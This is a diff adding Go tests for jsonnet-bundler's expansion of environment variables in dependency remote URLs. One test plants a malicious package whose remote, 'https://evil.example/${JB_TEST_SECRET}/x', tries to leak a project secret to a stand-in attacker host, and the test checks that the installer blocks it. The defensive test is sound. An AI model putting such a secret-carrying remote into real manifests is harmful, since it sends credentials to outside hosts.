@@ -0,0 +1,102 @@
+// Copyright 2018 jsonnet-bundler authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package pkg
+
+import (
+	"context"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/jsonnet-bundler/jsonnet-bundler/spec"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestExpandRemotes(t *testing.T) {
+	os.Setenv("JB_TEST_HOST", "git.corp")
+	defer os.Unsetenv("JB_TEST_HOST")
+	os.Setenv("JB_TEST_EMPTY", "")
+	defer os.Unsetenv("JB_TEST_EMPTY")
+
+	archive := spec.Dependency{Name: "archive", Source: spec.Source{ArchiveSource: &spec.ArchiveSource{URL: "https://${JB_TEST_HOST}/lib.tar.gz"}}}
+	deps := []spec.Dependency{
+		gitDependency("utils", "https://${JB_TEST_HOST}/a/utils${JB_TEST_EMPTY}", "master"),
+		gitDependency("plain", "https://github.com/a/$HOME", "master"),
+		archive,
+	}
+	expanded, err := ExpandRemotes(deps)
+	assert.NoError(t, err)
+	assert.Equal(t, "https://git.corp/a/utils", expanded[0].Source.GitSource.Remote)
+	assert.Equal(t, "https://github.com/a/$HOME", expanded[1].Source.GitSource.Remote)
+	assert.Equal(t, "https://git.corp/lib.tar.gz", expanded[2].Source.ArchiveSource.URL)
+	// The dependencies themselves are left alone.
+	assert.Equal(t, "https://${JB_TEST_HOST}/a/utils${JB_TEST_EMPTY}", deps[0].Source.GitSource.Remote)
+	assert.Equal(t, "https://${JB_TEST_HOST}/lib.tar.gz", archive.Source.ArchiveSource.URL)
+
+	_, err = ExpandRemotes([]spec.Dependency{gitDependency("utils", "https://${JB_TEST_UNSET}/a/utils", "master")})
+	assert.Equal(t, &UnsetVariableError{Name: "utils", Variable: "JB_TEST_UNSET"}, err)
+}
+
+func TestInstallerExpandRemotes(t *testing.T) {
+	repo := newTestRepo(t)
+	defer repo.Close()
+	repo.commit("main.libsonnet", "{}")
+
+	tempDir, err := ioutil.TempDir("", "jb-expand")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tempDir)
+
+	os.Setenv("JB_TEST_REPOS", filepath.Dir(repo.Dir))
+	defer os.Unsetenv("JB_TEST_REPOS")
+
+	m := spec.JsonnetFile{Dependencies: []spec.Dependency{
+		gitDependency("foo", "${JB_TEST_REPOS}/"+filepath.Base(repo.Dir), "master"),
+	}}
+	i := &Installer{JsonnetHome: filepath.Join(tempDir, "vendor")}
+	lock, err := i.Install(context.TODO(), filepath.Join(tempDir, JsonnetFile), m)
+	assert.NoError(t, err)
+	assert.Equal(t, filepath.Join(filepath.Dir(repo.Dir), filepath.Base(repo.Dir)), lock.Dependencies[0].Source.GitSource.Remote)
+	assert.NoError(t, CheckLock(m, *lock))
+
+	os.Unsetenv("JB_TEST_REPOS")
+	_, err = i.Install(context.TODO(), filepath.Join(tempDir, JsonnetFile), m)
+	assert.IsType(t, &UnsetVariableError{}, err)
+}
+
+func TestInstallerTransitiveVariables(t *testing.T) {
+	repo := newTestRepo(t)
+	defer repo.Close()
+	repo.commit(JsonnetFile, `{"dependencies": [{"name": "x", "source": {"git": {"remote": "https://evil.example/${JB_TEST_SECRET}/x"}}, "version": "master"}]}`)
+
+	tempDir, err := ioutil.TempDir("", "jb-expand")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tempDir)
+
+	os.Setenv("JB_TEST_SECRET", "s3cr3t")
+	defer os.Unsetenv("JB_TEST_SECRET")
+
+	// A package must not have the environment of the project expanded into
+	// the remotes of its dependencies.
+	m := spec.JsonnetFile{Dependencies: []spec.Dependency{gitDependency("foo", repo.Dir, "master")}}
+	i := &Installer{JsonnetHome: filepath.Join(tempDir, "vendor")}
+	_, err = i.Install(context.TODO(), filepath.Join(tempDir, JsonnetFile), m)
+	assert.Equal(t, &TransitiveVariableError{Name: "x", Package: "foo", Remote: "https://evil.example/${JB_TEST_SECRET}/x"}, err)
+	assert.NotContains(t, err.Error(), "s3cr3t")
+}